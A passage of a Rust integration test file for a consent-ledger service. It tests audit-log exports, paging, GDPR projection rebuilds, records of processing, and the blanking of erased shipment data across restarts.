        let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_consent-ledger"));
        cmd.env_remove("DATABASE_URL")
            .env("RUST_LOG", "warn")
            .arg("--data-dir")
            .arg(&options.data_dir);
        if let Some(url) = &options.database_url {
            cmd.arg("--database-url").arg(url);
        }
        cmd
    };
    let export = |args: &[&str], file: &str| {
        let path = out.path().join(file);
        let output = ledger()
            .arg("export")
            .args(args)
            .arg("--out")
            .arg(&path)
            .output()
            .expect("run consent-ledger export");
        (output, path)
    };
    let run = |args: &[&str], file: &str| {
        let (output, path) = export(args, file);
        assert!(output.status.success(), "export {args:?}: {output:?}");
        std::fs::read_to_string(path).expect("the exported file")
    };
    // Paging is the export's own: a query naming limit or after is refused, and no file is
    // written.
    for query in ["format=csv&limit=2", "format=ndjson&after=AAAA"] {
        let (output, path) = export(&["--view", "access", "--query", query], "refused.csv");
        assert!(!output.status.success(), "{query}");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.contains("--page-size"), "{stderr}");
        assert!(!path.exists());
    }
    // The whole access log, every page, one header row: read a row a page, three at a time
    // or all at once, the file is the same.
    let access = run(&["--view", "access", "--query", "format=csv"], "access.csv");
    let (header, rows) = parse_csv(&access);
    assert_eq!(header[0], "position");
    assert_eq!(rows.len(), 4);
    assert_eq!(access.matches("position,decision_id").count(), 1);
    for page_size in ["1", "3"] {
        let paged = run(
            &[
                "--view",
                "access",
                "--query",
                "format=csv",
                "--page-size",
                page_size,
            ],
            &format!("access-{page_size}.csv"),
        );
        assert_eq!(paged, access, "pages of {page_size}");
    }
    let all_ndjson = run(
        &["--view", "access", "--query", "format=ndjson"],
        "all.ndjson",
    );
    assert_eq!(all_ndjson.lines().count(), 4);
    // The audit projection is derived: emptied and rebuilt from the log, it answers the same.
    let replay = ledger()
        .args(["replay", "--audit"])
        .output()
        .expect("run consent-ledger replay --audit");
    assert!(replay.status.success(), "{replay:?}");
    let report: Value = serde_json::from_slice(&replay.stdout).expect("replay's JSON report");
    assert_eq!(report["audit"]["position"], report["summary"]["log_size"]);
    let rebuilt = run(
        &["--view", "access", "--query", "format=csv"],
        "rebuilt.csv",
    );
    assert_eq!(rebuilt, access, "rebuilt from the log, the same rows");
    let paged_ndjson = run(
        &[
            "--view",
            "access",
            "--query",
            "format=ndjson",
            "--page-size",
            "1",
        ],
        "all-1.ndjson",
    );
    assert_eq!(paged_ndjson, all_ndjson);
    assert!(
        !out.path().join("access.partial").exists(),
        "no partial file is left behind"
    );
    let ndjson = run(
        &[
            "--view",
            "access",
            "--query",
            "format=ndjson&outcome=denied",
        ],
        "access.ndjson",
    );
    assert_eq!(ndjson.lines().count(), 1);
    let dsar = run(
        &[
            "--view",
            "dsar",
            "--query",
            "recipient_ref=crm:1&format=csv",
        ],
        "dsar.csv",
    );
    assert_eq!(Value::String(dsar), over_http, "the same view as over HTTP");
    let ropa = run(
        &[
            "--view",
            "ropa",
            "--query",
            "from=2026-03-01T00:00:00Z&to=2026-04-01T00:00:00Z",
        ],
        "ropa.json",
    );
    let ropa: Value = serde_json::from_str(&ropa).expect("RoPA JSON");
    let ins = ropa["partners"]
        .as_array()
        .expect("partners")
        .iter()
        .find(|p| p["partner_id"] == insurer.as_str())
        .expect("insurer")
        .clone();
    assert_eq!(ins["allowed_reads"], 3);
}

/// The record of processing is built a chunk of consents at a time (the read-model lock is let
/// go between chunks, so decisions go on meanwhile); across chunk boundaries it counts every
/// consent once.
#[actix_web::test]
async fn ropa_counts_every_consent_across_chunks_while_decisions_go_on() {
    let app = spawn_app().await;
    let (_, shipper) = app.principal("shipper", "Shop").await;
    let (insurer, insurer_token) = app.partner("Insure").await;
    let (lender, _) = app.partner("Lend").await;
    let (_, dpo) = app.principal("privacy_officer", "DPO").await;
    let shipment = app.shipment(&shipper, "DHL", "JJD1", "DE").await;
    // 2,100 grants: more than two chunks of 1,024.
    const GRANTS: usize = 2_100;
    for i in 0..GRANTS {
        let partner = if i % 700 == 0 { &lender } else { &insurer };
        let r = app
            .post("/v1/consents", &shipper, consent_for(partner, &shipment))
            .await;
        expect(&r, StatusCode::CREATED);
    }
    let path = "/v1/audit/ropa?from=2026-03-01T00:00:00Z&to=2026-04-01T00:00:00Z";
    // Decisions while the record is built, on the lock it lets go between chunks.
    let ask = ask(&shipment);
    let (ropa, decided) = tokio::join!(app.get(path, &dpo), async {
        let mut allowed = 0;
        for _ in 0..20 {
            let r = app.post("/v1/decisions", &insurer_token, ask.clone()).await;
            allowed += usize::from(expect(&r, StatusCode::OK)["allowed"] == true);
        }
        allowed
    });
    assert_eq!(decided, 20);
    let partners = expect(&ropa, StatusCode::OK)["partners"].clone();
    let in_force = |id: &str| {
        partners
            .as_array()
            .and_then(|list| list.iter().find(|p| p["partner_id"] == id))
            .map(|p| p["consents_in_force"].clone())
    };
    assert_eq!(in_force(&insurer), Some(json!(GRANTS - 3)), "{partners}");
    assert_eq!(in_force(&lender), Some(json!(3)), "{partners}");
}

/// Issue 18: a view asked while the GDPR projection is far behind reads what it has not
/// applied from the log. Here every view reads it whenever the projection is behind at all
/// (`audit_tail_after` 0): the projection holds the first part of the history, the log the
/// rest — decisions, a revocation, decisions about an erased parcel — and every access view,
/// for every caller and filter, in every format and page, and the record of processing, must
/// be what the projection answers once it has caught up, before and after a restart.
#[actix_web::test]
async fn a_view_far_behind_the_log_answers_what_the_caught_up_projection_answers() {
    use consent_ledger_app::state::ServiceConfig;

    let app = crate::helpers::spawn_app_with(ServiceConfig {
        audit_tail_after: 0,
        ..ServiceConfig::default()
    })
    .await;
    let c = cast(&app).await;
    let (s1, s2, p1, p2, shipper, consent) = (&c.s1, &c.s2, &c.p1, &c.p2, &c.shipper, &c.consent);
    let (_, officer) = app.principal("privacy_officer", "DPO").await;
    decide(&app, &c.p1_token, ask(&c.s1)).await;
    decide(&app, &c.p2_token, ask(&c.s1)).await;
    decide(&app, &c.p1_token, ask(&c.s2)).await;
    let unknown = json!({"carrier": "DHL", "tracking_number": "NOPE1", "purpose": "insurance_claim", "data_categories": ["status_events"]});
    decide(&app, &c.p1_token, unknown.clone()).await;
    let erased = app
        .post(
            &format!("/v1/shipments/{s2}/erase"),
            &officer,
            json!({"reason": "the recipient asked (Art. 17)"}),
        )
        .await;
    assert_eq!(erased.status, StatusCode::OK, "{}", erased.body);
    // The erasure's clean-up blanks the projection's erased rows: let it finish before the
    // projection is left behind.
    app.scrubbed().await;

    // The projection applies this much; what follows only the log holds.
    let size = app.state.store.next_position().await.expect("size");
    app.state.gdpr.catch_up_to(size).await.expect("catch up");
    let applied = app.state.store.gdpr_position().await.expect("position");

    let s3 = app.shipment(&c.other_shipper, "UPS", "1Z9", "FR").await;
    decide(&app, &c.p1_token, ask(&s3)).await;
    // A read the ledger served itself (SPEC §14), which the record of processing counts by
    // channel.
    let pulled = app
        .get(
            &format!(
                "/v1/shipments/{s1}/tracking?purpose=insurance_claim&data_categories=status_events"
            ),
            &c.p1_token,
        )
        .await;
    assert_eq!(pulled.status, StatusCode::OK, "{}", pulled.body);
    app.clock.advance(Duration::hours(1));
    let revoked = app
        .post(
            &format!("/v1/consents/{consent}/revoke"),
            &c.shipper_token,
            json!({"reason": "customer objected"}),
        )
        .await;
    assert_eq!(revoked.status, StatusCode::OK);
    decide(&app, &c.p1_token, ask(&c.s1)).await;
    decide(&app, &c.p2_token, ask(&c.s2)).await;
    decide(&app, &c.p2_token, unknown).await;
    decide(&app, &c.p1_token, ask(&c.s2)).await;

    let from = rfc3339(start_time());
    let to = rfc3339(start_time() + Duration::minutes(30));
    let mut asked: Vec<(&str, String)> = Vec::new();
    for filter in [
        String::new(),
        format!("shipment_id={s1}"),
        format!("shipment_id={s2}"),
        format!("shipment_id={s3}"),
        "carrier=DHL&tracking_number=JJD1".to_owned(),
        "carrier=DHL&tracking_number=JJD2".to_owned(),
        "carrier=DHL&tracking_number=NOPE1".to_owned(),
        format!("partner_id={p1}"),
        format!("partner_id={p2}&outcome=denied"),
        format!("shipper_id={shipper}"),
        format!("from={from}&to={to}"),
        "outcome=allowed".to_owned(),
    ] {
        for format in ["json", "csv", "ndjson"] {
            asked.push((
                &c.regulator,
                format!("/v1/audit/access?{filter}&format={format}"),
            ));
        }
        asked.push((&officer, format!("/v1/audit/access?{filter}&limit=2")));
    }
    for filter in [
        String::new(),
        format!("shipment_id={s1}"),
        format!("shipment_id={s2}"),
        "carrier=DHL&tracking_number=NOPE1".to_owned(),
    ] {
        asked.push((&c.p1_token, format!("/v1/audit/access?{filter}")));
        asked.push((&c.p2_token, format!("/v1/audit/access?{filter}")));
        asked.push((&c.shipper_token, format!("/v1/audit/access?{filter}")));
    }
    // The record of processing counts the reads the projection has not applied from the log.
    let day = rfc3339(start_time() + Duration::days(1));
    for period in [
        format!("from={from}&to={to}"),
        format!("from={from}&to={day}"),
    ] {
        asked.push((&c.regulator, format!("/v1/audit/ropa?{period}")));
        asked.push((&officer, format!("/v1/audit/ropa?{period}&format=csv")));
    }
    // Every page of a paged read, by its cursors.
    // Every page's items, and the position its cursor resumes after: a time window's cursor
    // also carries the span its first page found, which tells where the projection was then.
    async fn pages(app: &TestApp, token: &str, first: &str) -> Vec<Value> {
        let mut answers = Vec::new();
        let mut path = first.to_owned();
        loop {
            let r = app.get(&path, token).await;
            let next = r.body["next_after"].as_str().map(str::to_owned);
            let mut body = r.body.clone();
            if let Some(cursor) = &next {
                body["next_after"] = json!(resumes_after(cursor));
            }
            answers.push(json!({"status": r.status.as_u16(), "body": body}));
            match next {
                Some(cursor) if answers.len() < 20 => path = format!("{first}&after={cursor}"),
                _ => return answers,
            }
        }
    }
    let mut from_the_log = Vec::new();
    for (token, path) in &asked {
        from_the_log.push(pages(&app, token, path).await);
    }
    assert_eq!(
        app.state.store.gdpr_position().await.expect("position"),
        applied,
        "the views read the log and left the projection where it was"
    );
    let erased_rows = from_the_log[asked
        .iter()
        .position(|(_, p)| p.starts_with(&format!("/v1/audit/access?shipment_id={s2}&format=json")))
        .expect("asked")][0]["body"]["items"]
        .as_array()
        .expect("items")
        .clone();
    assert_eq!(erased_rows.len(), 3, "{erased_rows:?}");
    assert!(
        erased_rows
            .iter()
            .all(|r| r["tracking_number"].is_null() && r["carrier"] == "DHL"),
        "an erased shipment's number is in no row, read from the projection or the log: \
         {erased_rows:?}"
    );

    // A restart finds the projection where it was and answers the same from the log.
    let (backing, clock, admin) = app.stop().await;
    let app = crate::helpers::spawn_app_configured(
        backing,
        clock,
        Some(admin),
        ServiceConfig {
            audit_tail_after: 0,
            ..ServiceConfig::default()
        },
    )
    .await;
    assert_eq!(
        app.state.store.gdpr_position().await.expect("position"),
        applied
    );
    for ((token, path), answer) in asked.iter().zip(&from_the_log) {
        assert_eq!(
            &pages(&app, token, path).await,
            answer,
            "{path}: read from the log before and after a restart"
        );
    }

    let size = app.state.store.next_position().await.expect("size");
    assert!(applied < size);
    app.state.gdpr.catch_up_to(size).await.expect("catch up");
    assert_eq!(
        app.state.store.gdpr_position().await.expect("position"),
        size
    );
    for ((token, path), answer) in asked.iter().zip(&from_the_log) {
        assert_eq!(
            &pages(&app, token, path).await,
            answer,
            "{path}: read from the log, then from the caught-up projection"
        );
    }
}

/// The projection's own tables and triggers as SQLite keeps them (type, name, SQL), and the
/// rows of its tables, read straight from the file; `None` on PostgreSQL.
async fn audit_file(app: &TestApp) -> Option<(Vec<(String, String, String)>, Vec<String>)> {
    if crate::helpers::backend() != crate::helpers::Backend::Sqlite {
        return None;
    }
    let file = sqlx::SqlitePool::connect_with(
        sqlx::sqlite::SqliteConnectOptions::new()
            .filename(app.data_dir().join("ledger.audit.db"))
            .read_only(true),
    )
    .await
    .expect("open the audit file");
    let schema: Vec<(String, String, String)> = sqlx::query_as(
        "SELECT type, name, COALESCE(sql, '') FROM sqlite_master \
         WHERE name NOT LIKE '_sqlx%' ORDER BY type, name",
    )
    .fetch_all(&file)
    .await
    .expect("schema");
    let mut rows = Vec::new();
    for table in [
        "audit_access",
        "audit_access_by_shipment",
        "audit_shipment",
        "audit_daily",
        "audit_daily_channel",
    ] {
        // Every column of every row, as SQLite prints it.
        let columns: Vec<String> = sqlx::query_scalar(sqlx::AssertSqlSafe(format!(
            "SELECT name FROM pragma_table_info('{table}')"
        )))
        .fetch_all(&file)
        .await
        .expect("columns");
        let quoted = columns
            .iter()
            .map(|c| format!("quote({c})"))
            .collect::<Vec<_>>()
            .join(" || '|' || ");
        let mut found: Vec<String> = sqlx::query_scalar(sqlx::AssertSqlSafe(format!(
            "SELECT '{table}:' || {quoted} FROM {table}"
        )))
        .fetch_all(&file)
        .await
        .unwrap_or_else(|e| panic!("{table}: {e}"));
        found.sort();
        rows.extend(found);
    }
    file.close().await;
    Some((schema, rows))
}

/// `replay --audit`'s rebuild of the GDPR projection from the whole log leaves the same rows,
/// views and (on SQLite) schema as the projection that followed the log, erasures and a
/// retention sweep included, and a restart finds it so.
#[actix_web::test]
async fn a_rebuild_leaves_what_the_projection_that_followed_the_log_held() {
    let app = spawn_app().await;
    let c = cast(&app).await;
    let (_, officer) = app.principal("privacy_officer", "DPO").await;
    let unknown = |number: &str| json!({"carrier": "DHL", "tracking_number": number, "purpose": "insurance_claim", "data_categories": ["status_events"]});
    decide(&app, &c.p2_token, unknown("NOPE-OLD")).await;
    for _ in 0..3 {
        decide(&app, &c.p1_token, ask(&c.s1)).await;
        decide(&app, &c.p2_token, ask(&c.s1)).await;
        decide(&app, &c.p1_token, ask(&c.s2)).await;
    }
    let erased = app
        .post(
            &format!("/v1/shipments/{}/erase", c.s2),
            &officer,
            json!({"reason": "the recipient asked (Art. 17)"}),
        )
        .await;
    assert_eq!(erased.status, StatusCode::OK, "{}", erased.body);
    app.scrubbed().await;
    decide(&app, &c.p1_token, ask(&c.s2)).await;
    let s3 = app.shipment(&c.other_shipper, "UPS", "1Z9", "FR").await;
    decide(&app, &c.p1_token, ask(&s3)).await;
    // Forty days on (the log's times are the machine's): the first parcel is read, then a sweep
    // erases the parcels nobody read in 30 days and the numbers of the old denials of parcels
    // nobody registered.
    app.clock.set(chrono::Utc::now() + Duration::days(40));
    decide(&app, &c.p1_token, ask(&c.s1)).await;
    decide(&app, &c.p2_token, unknown("NOPE-NEW")).await;
    let swept = consent_ledger_app::erasure::sweep_retention(&app.state, 30)
        .await
        .expect("sweep");
    assert_eq!(swept, 1, "the third parcel");
    decide(&app, &c.p1_token, ask(&c.s1)).await;

    let size = app.state.store.next_position().await.expect("size");
    app.state.gdpr.catch_up_to(size).await.expect("catch up");
    let asked: Vec<(&str, String)> = vec![
        (&c.regulator, "/v1/audit/access?limit=1000".to_owned()),
        (
            &c.regulator,
            format!("/v1/audit/access?shipment_id={}", c.s1),
        ),
        (
            &c.regulator,
            format!("/v1/audit/access?shipment_id={}", c.s2),
        ),
        (&c.regulator, format!("/v1/audit/access?shipment_id={s3}")),
        (
            &c.regulator,
            "/v1/audit/access?carrier=DHL&tracking_number=JJD1".to_owned(),
        ),
        (
            &c.regulator,
            "/v1/audit/access?carrier=DHL&tracking_number=NOPE-NEW".to_owned(),
        ),
        (
            &c.regulator,
            format!("/v1/audit/access?partner_id={}", c.p2),
        ),
        (
            &c.regulator,
            format!("/v1/audit/access?shipper_id={}", c.shipper),
        ),
        (
            &officer,
            "/v1/audit/dsar?carrier=DHL&tracking_number=JJD1".to_owned(),
        ),
        (
            &c.regulator,
            format!(
                "/v1/audit/ropa?from={}&to={}",
                rfc3339(start_time() - Duration::days(1)),
                rfc3339(chrono::Utc::now() + Duration::days(60))
            ),
        ),
    ];
    async fn answers(app: &TestApp, asked: &[(&str, String)]) -> Vec<Value> {
        let mut all = Vec::new();
        for (token, path) in asked {
            let r = app.get(path, token).await;
            assert_eq!(r.status, StatusCode::OK, "{path}: {}", r.body);
            all.push(r.body);
        }
        all
    }
    let followed = answers(&app, &asked).await;
    let followed_file = audit_file(&app).await;
    let s2_rows = followed[2]["items"].as_array().expect("items");
    assert_eq!(s2_rows.len(), 4, "{s2_rows:?}");
    assert!(
        s2_rows.iter().all(|r| r["tracking_number"].is_null()),
        "{s2_rows:?}"
    );

    let reached = app.state.gdpr.rebuild(|_| {}).await.expect("rebuild");
    assert_eq!(reached, size);
    assert_eq!(
        answers(&app, &asked).await,
        followed,
        "the views after the rebuild"
    );
    assert_eq!(
        audit_file(&app).await,
        followed_file,
        "the file's schema and rows after the rebuild"
    );
    if let Some((_, rows)) = &followed_file {
        for number in ["JJD2", "1Z9", "NOPE-OLD"] {
            assert!(
                !rows.iter().any(|r| r.contains(number)),
                "{number} is erased from every row"
            );
        }
    }

    // A restart finds the rebuilt projection where the rebuild left it.
    let (backing, clock, admin) = app.stop().await;
    let app = spawn_app_in(backing, clock, Some(admin)).await;
    assert_eq!(
        app.state.store.gdpr_position().await.expect("position"),
        size
    );
    assert_eq!(
        answers(&app, &asked).await,
        followed,
        "the views after the restart"
    );
    assert_eq!(audit_file(&app).await, followed_file);
}
